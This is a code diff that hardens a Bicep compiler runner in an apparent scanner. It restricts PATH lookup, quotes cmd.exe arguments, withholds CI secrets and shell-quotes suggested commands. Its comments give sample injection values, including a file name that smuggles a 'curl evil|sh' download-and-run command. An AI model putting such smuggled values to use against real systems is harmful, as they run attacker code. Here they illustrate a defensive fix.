@@ -1,7 +1,7 @@
 import { spawnSync } from "node:child_process";
 import { accessSync, constants, existsSync } from "node:fs";
 import { homedir } from "node:os";
-import { delimiter, join, relative } from "node:path";
+import { delimiter, isAbsolute, join, relative } from "node:path";
 import { InputError } from "../model/index.js";
 import { fsFault } from "../node/index.js";
 import { MAX_SOURCE_BYTES } from "../reader/index.js";
@@ -33,9 +33,19 @@ export const AZ_WITHOUT_BICEP_MESSAGE =
  */
 const AZ_OFFLINE_ENV = { AZURE_BICEP_CHECK_VERSION: "false", AZURE_CORE_COLLECT_TELEMETRY: "false" };
 
-/** The CLI to use: the configured one, else `bicep` on PATH, else `az` on PATH (undefined: none). */
+/**
+ * The CLI to use: the configured one, else `bicep` on PATH, else `az` on PATH (undefined: none). A
+ * bare configured name is looked up here too: left to the system, Windows would look in the
+ * working directory (the checkout) first.
+ */
 export function findBicepCli(configured: string | undefined, env: NodeJS.ProcessEnv = process.env): BicepCli | undefined {
-  if (configured) return { executable: configured, flavour: /(^|[\\/])az(\.cmd|\.exe)?$/i.test(configured) ? "az" : "bicep" };
+  if (configured) {
+    const flavour = /(^|[\\/])az(\.cmd|\.exe)?$/i.test(configured) ? "az" : "bicep";
+    if (/[\\/]/.test(configured)) return { executable: configured, flavour };
+    const names = process.platform === "win32" && !/\.(exe|cmd)$/i.test(configured) ? [`${configured}.exe`, `${configured}.cmd`] : [configured];
+    const found = onPath(names, env);
+    return found ? { executable: found, flavour } : undefined;
+  }
   const bicep = onPath(process.platform === "win32" ? ["bicep.exe", "bicep.cmd"] : ["bicep"], env);
   if (bicep) return { executable: bicep, flavour: "bicep" };
   const az = onPath(process.platform === "win32" ? ["az.cmd", "az.exe"] : ["az"], env);
@@ -52,9 +62,22 @@ export function azHasBicep(env: NodeJS.ProcessEnv = process.env): boolean {
   return existsSync(own) || onPath(process.platform === "win32" ? ["bicep.exe", "bicep.cmd"] : ["bicep"], env) !== undefined;
 }
 
+/**
+ * The PATH directories a program is looked up in: not the ones a pull request can fill, a relative
+ * one (read from the working directory, the checkout) or a `node_modules/.bin` inside the working
+ * directory (npx and npm scripts put it first, and a pull request can commit one with a `bicep`).
+ */
+export function trustedPath(path: string, cwd = process.cwd()): string[] {
+  return path.split(delimiter).filter((dir) => {
+    if (!dir || !isAbsolute(dir)) return false;
+    const rel = relative(cwd, dir);
+    const inside = rel === "" || (!rel.startsWith("..") && !isAbsolute(rel));
+    return !(inside && /(^|[\\/])node_modules[\\/]\.bin[\\/]?$/i.test(dir));
+  });
+}
+
 function onPath(names: string[], env: NodeJS.ProcessEnv): string | undefined {
-  for (const dir of (env["PATH"] ?? "").split(delimiter)) {
-    if (!dir) continue;
+  for (const dir of trustedPath(env["PATH"] ?? "")) {
     for (const name of names) {
       const candidate = join(dir, name);
       try {
@@ -77,14 +100,17 @@ export function compileArguments(cli: BicepCli, command: "build" | "build-params
  * Runs the CLI on one file, bounded in time and output, and returns what it printed on standard
  * output. A failed compile throws `InputError` listing the compiler's diagnostics.
  */
-export function runBicepCli(cli: BicepCli, command: "build" | "build-params", file: string, timeoutMs: number): string {
-  const result = spawnSync(cli.executable, compileArguments(cli, command, file), {
+export function runBicepCli(cli: BicepCli, command: "build" | "build-params", file: string, timeoutMs: number, withheld: readonly string[] = []): string {
+  const viaShell = process.platform === "win32" && /\.cmd$/i.test(cli.executable);
+  const args = compileArguments(cli, command, file);
+  const [program, argv] = viaShell ? shellQuoted(file, cli.executable, args) : [cli.executable, args];
+  const result = spawnSync(program, argv, {
     encoding: "utf8",
-    ...(cli.flavour === "az" ? { env: { ...process.env, ...AZ_OFFLINE_ENV } } : {}),
+    env: compilerEnvironment(cli, withheld),
     timeout: timeoutMs,
     maxBuffer: MAX_SOURCE_BYTES + MAX_STDERR_BYTES,
     windowsHide: true,
-    shell: process.platform === "win32" && /\.cmd$/i.test(cli.executable),
+    shell: viaShell,
   });
   const error = result.error as NodeJS.ErrnoException | undefined;
   if (error?.code === "ETIMEDOUT") throw new InputError(file, `the Bicep compiler did not finish within ${timeoutMs / 1000} s`);
@@ -98,6 +124,36 @@ export function runBicepCli(cli: BicepCli, command: "build" | "build-params", fi
     throw new InputError(file, `the Bicep compiler printed more than ${MAX_STDERR_BYTES / (1024 * 1024)} MiB of diagnostics`);
   if (result.status !== 0) throw compileFailure(cli, file, result.status, stderr + "\n" + (result.stdout ?? ""));
   return result.stdout ?? "";
+}
+
+/**
+ * A `.cmd` (az.cmd) runs only through cmd.exe, which Node hands the arguments joined, unquoted: a
+ * file named `a&calc.bicep` would run calc. So each is quoted, and a file name holding what cmd.exe
+ * or the batch file's `%*` would still read inside quotes (`"`, `%`, `!`, `^`, line breaks) is
+ * refused. Exported for tests (they run on any platform).
+ */
+export function shellQuoted(file: string, executable: string, args: readonly string[]): [string, string[]] {
+  const quote = (s: string) => {
+    // eslint-disable-next-line no-control-regex -- control characters are what is refused
+    if (/["%!^\u0000-\u001f]/.test(s))
+      throw new InputError(file, `the path holds a character cmd.exe would interpret (" % ! ^ or a control character), so ${executable} is not run on it`);
+    return `"${s}"`;
+  };
+  return [quote(executable), args.map(quote)];
+}
+
+/**
+ * The compiler's environment: the scanner's, without the variables the sources read with
+ * `readEnvironmentVariable()` (a CI job's secrets must not become parameter values that findings
+ * quote; the compiler takes the default given, or fails), and for az without its network calls.
+ */
+function compilerEnvironment(cli: BicepCli, withheld: readonly string[]): NodeJS.ProcessEnv {
+  const names = new Set(withheld.map((n) => n.toUpperCase())); // (names are case-insensitive on Windows)
+  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => !names.has(name.toUpperCase())));
+  if (cli.flavour !== "az") return env;
+  // az may run a `bicep` it finds on PATH itself: only in the directories the scanner trusts.
+  const pathKey = Object.keys(env).find((name) => name.toUpperCase() === "PATH") ?? "PATH";
+  return { ...env, [pathKey]: trustedPath(env[pathKey] ?? "").join(delimiter), ...AZ_OFFLINE_ENV };
 }
 
 /** Calls a compile function given through the API; its errors become the file's error. */
@@ -126,7 +182,7 @@ function compileFailure(cli: BicepCli, file: string, status: number | null, outp
   const shown = errors.slice(0, MAX_DIAGNOSTICS_SHOWN).map((d) => describe(d));
   const more = errors.length > shown.length ? `; and ${errors.length - shown.length} more` : "";
   const restore = errors.some((d) => NOT_RESTORED.has(d.code))
-    ? `registry modules are not in the local cache (the scanner compiles with --no-restore and never uses the network): run '${cli.flavour === "az" ? `az bicep restore --file ${file}` : `bicep restore ${file}`}' first; `
+    ? `registry modules are not in the local cache (the scanner compiles with --no-restore and never uses the network): run '${cli.flavour === "az" ? `az bicep restore --file ${shellWord(file)}` : `bicep restore ${shellWord(file)}`}' first; `
     : "";
   const own = errors.find((d) => sameFile(d.file, file));
   return new InputError(
@@ -134,6 +190,14 @@ function compileFailure(cli: BicepCli, file: string, status: number | null, outp
     `${restore}Bicep compilation failed with ${errors.length} error${errors.length === 1 ? "" : "s"}: ${shown.join("; ")}${more}`,
     own ? { line: own.line, column: own.column } : undefined,
   );
+}
+
+/**
+ * A path as one POSIX shell word, for a command the message tells the user to run: a file name from
+ * a pull request (`x';curl evil|sh;'.bicep`) must not become a command of its own when pasted.
+ */
+export function shellWord(path: string): string {
+  return /^[\w./@:+,-]+$/.test(path) ? path : `'${path.replace(/'/g, "'\\''")}'`;
 }
 
 function describe(d: BicepDiagnostic): string {
